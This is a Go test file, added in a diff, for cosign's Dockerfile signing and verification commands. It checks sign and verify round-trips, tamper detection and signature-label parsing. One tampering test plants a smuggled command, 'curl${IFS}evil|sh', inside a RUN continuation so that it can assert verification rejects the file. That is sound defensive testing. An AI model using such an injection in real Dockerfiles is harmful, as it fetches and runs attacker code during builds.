@@ -0,0 +1,156 @@
+// Copyright 2021 The Sigstore Authors.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package dockerfile
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/sigstore/cosign/cmd/cosign/cli/sign"
+	"github.com/sigstore/cosign/pkg/cosign"
+)
+
+func TestSignDockerfileCmd(t *testing.T) {
+	ctx := context.Background()
+	td := t.TempDir()
+
+	passFunc := func(bool) ([]byte, error) { return []byte("hunter2"), nil }
+	keys, err := cosign.GenerateKeyPair(passFunc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	privKeyPath := filepath.Join(td, "cosign.key")
+	if err := os.WriteFile(privKeyPath, keys.PrivateBytes, 0600); err != nil {
+		t.Fatal(err)
+	}
+	pubKeyPath := filepath.Join(td, "cosign.pub")
+	if err := os.WriteFile(pubKeyPath, keys.PublicBytes, 0600); err != nil {
+		t.Fatal(err)
+	}
+	signKO := sign.KeyOpts{KeyRef: privKeyPath, PassFunc: passFunc}
+	verifyKO := sign.KeyOpts{KeyRef: pubKeyPath}
+
+	const contents = "FROM gcr.io/test/image\nRUN make"
+	for _, sidecar := range []bool{false, true} {
+		path := filepath.Join(td, "Dockerfile")
+		if err := os.WriteFile(path, []byte(contents), 0600); err != nil {
+			t.Fatal(err)
+		}
+		_ = os.Remove(path + ".sig")
+
+		if err := SignDockerfileCmd(ctx, signKO, path, sidecar); err != nil {
+			t.Fatalf("SignDockerfileCmd(sidecar=%v) = %v", sidecar, err)
+		}
+		if err := VerifyDockerfileSignatureCmd(ctx, verifyKO, path); err != nil {
+			t.Errorf("VerifyDockerfileSignatureCmd(sidecar=%v) = %v", sidecar, err)
+		}
+		signed, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, _, ok, _ := splitSignature(signed); ok == sidecar {
+			t.Errorf("signature label present = %v with sidecar=%v", ok, sidecar)
+		}
+		if !sidecar {
+			// Signing again replaces the label rather than adding another.
+			if err := SignDockerfileCmd(ctx, signKO, path, false); err != nil {
+				t.Fatal(err)
+			}
+			resigned, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if n := strings.Count(string(resigned), SignatureLabel); n != 1 {
+				t.Errorf("got %d signature labels after signing twice, want 1", n)
+			}
+		}
+
+		if err := os.WriteFile(path, []byte(strings.Replace(string(signed), "make", "make install", 1)), 0600); err != nil {
+			t.Fatal(err)
+		}
+		if err := VerifyDockerfileSignatureCmd(ctx, verifyKO, path); err == nil {
+			t.Errorf("VerifyDockerfileSignatureCmd(sidecar=%v) verified a modified Dockerfile", sidecar)
+		}
+	}
+}
+
+func TestSplitSignature(t *testing.T) {
+	for _, tc := range []struct {
+		in, want, sig string
+		wantErr       bool
+	}{
+		{in: "FROM a", want: "FROM a"},
+		{in: "FROM a\n", want: "FROM a\n"},
+		{in: "FROM a\nLABEL sigstore.signature=\"abc=\"\n", want: "FROM a\n", sig: "abc="},
+		{in: "FROM a\nlabel sigstore.signature=abc", want: "FROM a\n", sig: "abc"},
+		{in: "FROM a\nLABEL other=abc\n", want: "FROM a\nLABEL other=abc\n"},
+		{in: "", want: ""},
+		{in: "FROM a\nlabel sigstore.signature=abc\nRUN b\n", wantErr: true},
+		{in: "FROM a\nLABEL sigstore.signature=abc\nLABEL sigstore.signature=def\n", wantErr: true},
+		{in: "FROM a\nRUN b \\\nLABEL sigstore.signature=abc\n", wantErr: true},
+	} {
+		got, sig, _, err := splitSignature([]byte(tc.in))
+		if (err != nil) != tc.wantErr {
+			t.Errorf("splitSignature(%q) error = %v, wantErr %v", tc.in, err, tc.wantErr)
+			continue
+		}
+		if err == nil && (string(got) != tc.want || sig != tc.sig) {
+			t.Errorf("splitSignature(%q) = %q, %q, want %q, %q", tc.in, got, sig, tc.want, tc.sig)
+		}
+	}
+}
+
+// TestVerifyDockerfileTamperedContinuation checks that a signature label
+// injected into a RUN continuation is not stripped before verification.
+func TestVerifyDockerfileTamperedContinuation(t *testing.T) {
+	ctx := context.Background()
+	td := t.TempDir()
+
+	passFunc := func(bool) ([]byte, error) { return []byte("hunter2"), nil }
+	keys, err := cosign.GenerateKeyPair(passFunc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	privKeyPath := filepath.Join(td, "cosign.key")
+	if err := os.WriteFile(privKeyPath, keys.PrivateBytes, 0600); err != nil {
+		t.Fatal(err)
+	}
+	pubKeyPath := filepath.Join(td, "cosign.pub")
+	if err := os.WriteFile(pubKeyPath, keys.PublicBytes, 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	path := filepath.Join(td, "Dockerfile")
+	if err := os.WriteFile(path, []byte("FROM gcr.io/test/image\nRUN make \\\n  && make install\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if err := SignDockerfileCmd(ctx, sign.KeyOpts{KeyRef: privKeyPath, PassFunc: passFunc}, path, false); err != nil {
+		t.Fatal(err)
+	}
+	signed, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tampered := strings.Replace(string(signed), "RUN make \\\n", "RUN make \\\nLABEL sigstore.signature=x;curl${IFS}evil|sh \\\n", 1)
+	if err := os.WriteFile(path, []byte(tampered), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if err := VerifyDockerfileSignatureCmd(ctx, sign.KeyOpts{KeyRef: pubKeyPath}, path); err == nil {
+		t.Error("VerifyDockerfileSignatureCmd() verified a Dockerfile with a signature label inside a RUN continuation")
+	}
+}